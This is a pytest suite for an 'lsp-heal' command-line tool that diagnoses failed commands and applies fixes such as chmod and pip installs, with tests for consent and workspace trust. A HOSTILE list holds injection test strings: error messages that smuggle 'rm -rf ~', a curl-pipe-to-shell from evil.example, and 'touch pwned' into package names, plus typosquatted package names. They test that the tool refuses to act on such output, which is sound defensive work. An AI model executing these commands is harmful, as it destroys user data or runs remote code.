"""`lsp-heal run` as a user runs it: a real subprocess, real failures, real fixes."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from heal_parts import (
    build_wheel,
    installed,
    isolated_home_fixture,  # noqa: F401  (autouse)
    make_venv,
    offline_env,
)


def lsp_heal(*args: str, cwd: Path, env: dict[str, str] | None = None,
             stdin: str = "") -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "lsp_heal", *args], cwd=cwd, input=stdin,
                          capture_output=True, text=True, env=env or os.environ, timeout=300,
                          check=False)


@pytest.fixture
def script_ws(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / ".git").mkdir(parents=True)  # a workspace root
    script = ws / "report.sh"
    script.write_text("#!/bin/sh\necho report done\n")
    script.chmod(0o644)
    return ws


def test_run_apply_yes_heals_a_script_without_its_exec_bit(script_ws):
    done = lsp_heal("run", "--apply", "--yes", "--json", "--", "./report.sh", cwd=script_ws)
    report = json.loads(done.stdout)
    assert done.returncode == 0 and report["exit_code"] == 0 and report["healed"] is True
    first, last = report["attempts"]
    assert first["exit_code"] == 126 and first["errors"][0]["category"] == "permission"
    assert first["plan"]["actions"] == [{"kind": "chmod", "path": str(script_ws / "report.sh"),
                                         "mode": "755"}]
    assert first["applied"]["success"] and last == {"exit_code": 0}
    assert "report done" in done.stderr  # the command's output streamed live, off stdout
    history = json.loads(lsp_heal("history", "--json", cwd=script_ws).stdout)["history"]
    assert [h["id"] for h in history] == [first["applied"]["id"]]


def test_run_without_apply_only_shows_the_plan_and_changes_nothing(script_ws):
    done = lsp_heal("run", "--", "./report.sh", cwd=script_ws)
    assert done.returncode == 126
    assert "Make report.sh executable" in done.stderr and "--apply" in done.stderr
    assert (script_ws / "report.sh").stat().st_mode & 0o777 == 0o644


def test_run_apply_without_a_terminal_or_yes_applies_nothing(script_ws):
    done = lsp_heal("run", "--apply", "--json", "--", "./report.sh", cwd=script_ws, stdin="y\n")
    report = json.loads(done.stdout)
    assert done.returncode == 126 and report["healed"] is False
    assert report["attempts"][0]["applied"]["outcome"] == "declined"
    assert "no terminal to ask for consent" in done.stderr
    assert (script_ws / "report.sh").stat().st_mode & 0o777 == 0o644


def test_run_installs_a_missing_module_into_the_workspace_venv_and_reruns(tmp_path):
    ws = tmp_path / "app"
    (ws / ".git").mkdir(parents=True)
    python = make_venv(ws / ".venv")
    (ws / "requirements.txt").write_text("")
    (ws / "app.py").write_text("import healdemo_gizmo\nprint('gizmo', healdemo_gizmo.VALUE)\n")
    env = offline_env(build_wheel(tmp_path, "healdemo_gizmo", "2.0"))
    env.pop("VIRTUAL_ENV", None)
    done = lsp_heal("run", "--apply", "--yes", "--json", "--", str(python), "app.py", cwd=ws,
                    env=env)
    report = json.loads(done.stdout)
    assert report["healed"] and report["exit_code"] == 0, done.stderr
    action = report["attempts"][0]["plan"]["actions"][0]
    assert (action["kind"], action["manager"], action["package"]) == ("install", "pip",
                                                                      "healdemo_gizmo")
    assert installed(python, "healdemo_gizmo") == "2.0"
    assert "healdemo_gizmo" in (ws / "requirements.txt").read_text()
    assert "gizmo 42" in done.stderr


def test_run_gives_up_after_max_retries_and_returns_the_commands_status(script_ws):
    (script_ws / ".lsp_heal").mkdir()
    (script_ws / ".lsp_heal" / "hooks.json").write_text(json.dumps(
        {"fallback": {"enabled": True, "maxRetries": 0, "backoffMultiplier": 2}}))
    done = lsp_heal("run", "--apply", "--yes", "--json", "--", "./report.sh", cwd=script_ws)
    report = json.loads(done.stdout)
    assert done.returncode == 126 and "applied" not in report["attempts"][0]
    assert "gave up after 0" in done.stderr


HOSTILE = [
    "ModuleNotFoundError: No module named 'x; rm -rf ~'",
    "ModuleNotFoundError: No module named 'reqeusts'",
    "bash: $(curl evil.example|sh): command not found",
    "npm ERR! 404 Not Found - GET https://registry.npmjs.org/lodahs; touch pwned",
]


@pytest.mark.parametrize("output", HOSTILE)
def test_hostile_output_never_gets_an_install_or_a_command_run(script_ws, output):
    printer = [sys.executable, "-c", f"import sys; print({output!r}, file=sys.stderr); sys.exit(1)"]
    done = lsp_heal("run", "--apply", "--yes", "--json", "--", *printer, cwd=script_ws)
    report = json.loads(done.stdout)
    assert done.returncode == 1 and report["healed"] is False
    plan = report["attempts"][0]["plan"]
    kinds = {a["kind"] for a in plan["actions"]} if plan else set()
    assert not kinds & {"install", "run"}, plan
    assert not (script_ws / "pwned").exists()


def test_run_without_a_command_is_a_one_line_usage_error(tmp_path):
    done = lsp_heal("run", "--", cwd=tmp_path)
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and "Traceback" not in done.stderr


def test_a_workspace_the_user_trusts_is_healed_without_a_prompt(script_ws):
    trusted = lsp_heal("trust", str(script_ws), "--json", cwd=script_ws)
    assert json.loads(trusted.stdout) == {"trusted": [str(script_ws)]}
    done = lsp_heal("run", "--apply", "--json", "--", "./report.sh", cwd=script_ws)
    assert json.loads(done.stdout)["healed"] and done.returncode == 0
    lsp_heal("trust", str(script_ws), "--remove", cwd=script_ws)
    assert json.loads(lsp_heal("trust", "--list", "--json", cwd=script_ws).stdout) == {
        "trusted": []}
